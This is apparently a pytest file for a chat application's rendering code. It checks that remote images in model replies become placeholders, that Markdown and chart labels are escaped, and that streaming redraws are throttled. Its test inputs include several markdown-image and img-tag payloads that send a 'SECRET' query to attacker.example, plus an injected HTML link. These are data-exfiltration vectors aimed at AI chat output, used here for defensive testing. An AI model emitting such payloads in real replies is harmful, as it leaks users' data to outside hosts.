"""Nothing in data fetches a resource or becomes a link when shown: remote images in replies are placeholders,
data strings in Markdown are literal, chart labels are escaped."""
from __future__ import annotations

import pandas as pd
import pytest

from core.formats.rendering import chart_label, code_text, model_markdown, plain

EXFIL = "https://attacker.example/c?q=SECRET"


@pytest.mark.parametrize("reply", [
    f"Sure! ![logo]({EXFIL})",
    f"![logo](<{EXFIL}> \"title\")",
    f"![a [nested] alt]({EXFIL})",
    f"![logo][1]\n\n[1]: {EXFIL}",
    f"![logo][]\n\n[logo]: {EXFIL}",
    f"![logo]\n\n[logo]: {EXFIL}",
    "![p](//attacker.example/p.png)",
    f'<img src="{EXFIL}">',
])
def test_remote_images_in_replies_become_placeholders(reply):
    shown = model_markdown(reply)
    assert "![" not in shown.replace("image not loaded", "") or "](" not in shown
    assert "image not loaded" in shown or "`<img" in shown
    assert "attacker.example" in shown  # the URL stays readable, as code text


def test_other_markdown_and_inline_images_stay():
    text = "**Bold**, a [link](https://docs.example/x) and ![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert model_markdown(text) == text
    assert model_markdown(f"![x]({EXFIL})", allow_remote_images=True) == f"![x]({EXFIL})"


def test_data_strings_are_literal_in_markdown():
    assert plain("gpt-4o-mini") == "gpt-4o-mini"
    assert plain(f"![x]({EXFIL})").startswith("`") and "](" in plain(f"![x]({EXFIL})")  # a code span
    assert plain("**x** :red[y] $z$ <b>") == r"\*\*x\*\* \:red\[y\] \$z\$ \<b\>"
    assert plain("- item") == r"\- item" and plain("3. item") == r"3\. item"
    assert code_text("a`b") == "``a`b``"


def test_chart_labels_are_escaped():
    from core.analytics.charts import _bars, _bars_by
    frame = pd.DataFrame({"model": ['<a href="https://attacker.example">m</a>', "gpt-4o"], "spend_usd": [1.0, 2.0],
                          "day": ["2026-11-01", "2026-11-02"]})
    bars = _bars(frame, "model", "spend_usd", "t")
    assert all("<a" not in str(v) for v in bars.data[0].x)
    by = _bars_by(frame, "day", "spend_usd", "model", "t")
    assert all("<a" not in t.name for t in by.data) and any("&lt;a" in t.name for t in by.data)
    assert chart_label("<b>x</b>") == "&lt;b&gt;x&lt;/b&gt;"


def test_a_typed_model_id_or_fallback_note_cannot_render_markup_under_a_reply():
    from core.calls.metrics import CallMetrics
    from core.chat import conversation as chat
    message = chat.Message(role="assistant", content="x", metrics=CallMetrics(
        status="ok", model=f"![m]({EXFIL})", input_tokens=1, output_tokens=1))
    caption = chat.turn_caption(message)
    assert caption.startswith("`![m](") and caption.index("`", 1) > caption.index("attacker")


def test_a_streaming_reply_is_redrawn_a_few_times_a_second_and_whole_at_the_end():
    from core.formats.rendering import frames

    now = [0.0]

    def clock() -> float:
        return now[0]

    def deltas():
        for i in range(100):  # 100 tokens, 5 ms apart: half a second
            now[0] = i * 0.005
            yield f"w{i} "

    shown = list(frames(deltas(), interval_s=0.05, clock=clock))
    whole = "".join(f"w{i} " for i in range(100))
    assert shown[0] == "w0 " and shown[-1] == whole  # the first token at once, the whole reply last
    assert 10 <= len(shown) <= 12  # one redraw per 50 ms, not one per token
    assert all(whole.startswith(s) for s in shown) and shown == sorted(shown, key=len)


def test_a_reply_whose_last_token_was_drawn_is_not_drawn_twice():
    from core.formats.rendering import frames

    ticks = iter([0.0, 1.0, 2.0])
    assert list(frames(["a", "b", "c"], interval_s=0.5, clock=lambda: next(ticks))) == ["a", "ab", "abc"]
    assert list(frames([])) == []
